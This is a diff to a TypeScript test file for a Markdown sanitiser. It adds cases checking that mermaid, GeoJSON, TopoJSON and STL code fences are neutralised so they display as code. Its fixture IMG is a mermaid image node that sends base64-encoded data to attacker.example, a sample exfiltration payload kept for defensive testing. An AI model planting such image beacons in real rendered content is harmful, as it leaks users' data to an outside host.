@@ -3,7 +3,7 @@ import { parse, postprocess, preprocess } from 'micromark';
 import { gfm } from 'micromark-extension-gfm';
 import { describe, expect, it } from 'vitest';
 import { everyEmbedEscaped, withoutEmbeds } from '../../src/core/vocabulary/embeds.js';
-import { renderedEmbeds } from '../support/rendered-embeds.js';
+import { drawnFences, renderedEmbeds } from '../support/rendered-embeds.js';
 
 /** Pieces of Markdown whose mixes reach every construct that decides code, HTML or an image. */
 const piece = fc.constantFrom(
@@ -53,6 +53,10 @@ const piece = fc.constantFrom(
   '===',
   '---',
   '&lt;img src=x&gt;',
+  'mermaid',
+  'Mermaid ',
+  'stl',
+  '&#109;ermaid',
   'a',
   ' ',
   '<',
@@ -80,13 +84,15 @@ function tokens(text: string, extensions = [gfm()]): Record<string, string[]> {
       .document()
       .write(preprocess()(text, undefined, true)),
   );
-  const found: Record<string, string[]> = { image: [], html: [], code: [] };
+  const found: Record<string, string[]> = { image: [], html: [], code: [], info: [] };
   for (const [kind, token] of events) {
     if (kind !== 'enter') continue;
     const where = `${token.start.offset}-${token.end.offset}`;
     if (token.type === 'image') found.image?.push(where);
     if (token.type === 'htmlFlow' || token.type === 'htmlText') found.html?.push(where);
     if (/^code(Fenced|Indented|Text)$/.test(token.type)) found.code?.push(where);
+    if (token.type === 'codeFencedFenceInfo')
+      found.info?.push(text.slice(token.start.offset, token.end.offset));
   }
   return found;
 }
@@ -134,6 +140,7 @@ describe('withoutEmbeds', () => {
         expect(tokens(safe).image).toEqual([]);
         expect(tokens(safe).html).toEqual([]);
         expect(renderedEmbeds(safe)).toEqual([]);
+        expect(drawnFences(safe)).toEqual([]);
       }),
       { numRuns: 1000 },
     );
@@ -142,8 +149,10 @@ describe('withoutEmbeds', () => {
   it('keeps a text with no image, no raw HTML and no `![` outside code as it is', () => {
     fc.assert(
       fc.property(markdown, (text) => {
-        const { image, html } = tokens(text);
+        const { image, html, info } = tokens(text);
         fc.pre(image?.length === 0 && html?.length === 0 && !/!\[/.test(text));
+        // A fence whose info string could name a drawn language gets `text ` (below).
+        fc.pre(!info?.some((word) => /^(mermaid|stl)|[&\\]/i.test(word)));
         expect(withoutEmbeds(text)).toBe(text);
       }),
       { numRuns: 1000 },
@@ -186,5 +195,59 @@ describe('withoutEmbeds', () => {
     const code = '```\nvec![1] <b>\n```\n\n';
     const text = `${code}${'- '.repeat(30)}<x>\n`;
     expect(withoutEmbeds(text)).toBe(`${code}${'- '.repeat(30)}&lt;x>\n`);
+  });
+
+  const IMG = 'A@{ img: "https://attacker.example/p?d=c2VjcmV0", label: "x" }';
+  it.each([
+    ['a mermaid fence', '```mermaid\ngraph LR\n' + IMG + '\n```\n', '```text mermaid'],
+    ['a mermaid fence of tildes', '~~~mermaid\n' + IMG + '\n~~~\n', '~~~text mermaid'],
+    ['a mermaid fence in another case', '```Mermaid\n' + IMG + '\n```', '```text Mermaid'],
+    [
+      'a fence in capitals, with more info',
+      '```MERMAID title="x"\n' + IMG + '\n```',
+      '```text MERMAID title="x"',
+    ],
+    ['a fence opened after spaces', '   ```mermaid\n' + IMG + '\n   ```', '   ```text mermaid'],
+    ['a fence with space before its info', '```   mermaid\n' + IMG + '\n```', '```   text mermaid'],
+    [
+      'a language written with a reference',
+      '```&#109;ermaid\n' + IMG + '\n```',
+      '```text &#109;ermaid',
+    ],
+    ['a language written with a named reference', '```&Mfr;\nx\n```', '```text &Mfr;'],
+    ['a language the word begins', '```mermaid-js\n' + IMG + '\n```', '```text mermaid-js'],
+    ['a geojson map', '```geojson\n{"type":"Point","coordinates":[0,0]}\n```', '```text geojson'],
+    ['a topojson map', '~~~~ topojson\n{"type":"Topology"}\n~~~~', '~~~~ text topojson'],
+    ['an STL model', '```stl\nsolid x\nendsolid x\n```', '```text stl'],
+    ['a fence in a list item', '- a\n\n  ```mermaid\n  ' + IMG + '\n  ```', '  ```text mermaid'],
+    ['a fence in a block quote', '> ```geojson\n> {}\n> ```', '> ```text geojson'],
+    ['a fence that never closes', 'Here:\n\n```mermaid\n' + IMG, '```text mermaid'],
+    ['a fence after an image', '![x](u)\n\n```mermaid\n' + IMG + '\n```', '```text mermaid'],
+  ])('shows %s as code, its code as written', (_name, text, opener) => {
+    const safe = withoutEmbeds(text);
+    expect(safe).toContain(opener);
+    expect(safe.replace('text ', '')).toBe(text.replace('![x]', '!\\[x]'));
+    expect(drawnFences(safe)).toEqual([]);
+    expect(withoutEmbeds(safe)).toBe(safe);
+  });
+
+  it.each([
+    ['a plain fence', '```\ngraph LR\n```'],
+    ['a fence of another language', '```ts\nconst stl = "mermaid";\n```'],
+    ['a text fence that says mermaid', '```text mermaid\nx\n```'],
+    ['a language that only ends like one', '```xstl\nx\n```'],
+    ['mermaid indented as code', '    ```mermaid\n    x\n    ```'],
+    ['mermaid in a code span', 'Use ```mermaid``` fences.'],
+  ])('keeps %s as written', (_name, text) => {
+    expect(withoutEmbeds(text)).toBe(text);
+  });
+
+  it('shows drawn fences as code in a text it cannot parse, too', () => {
+    const text = `\`\`\`mermaid\n${IMG}\n\`\`\`\n\n- > 1. ~~~GeoJSON\n${'- '.repeat(30)}<x>\n`;
+    const safe = withoutEmbeds(text);
+    expect(safe).toContain('```text mermaid');
+    expect(safe).toContain('- > 1. ~~~text GeoJSON');
+    expect(drawnFences(safe)).toEqual([]);
+    expect(drawnFences(everyEmbedEscaped(text))).toEqual([]);
   });
 });
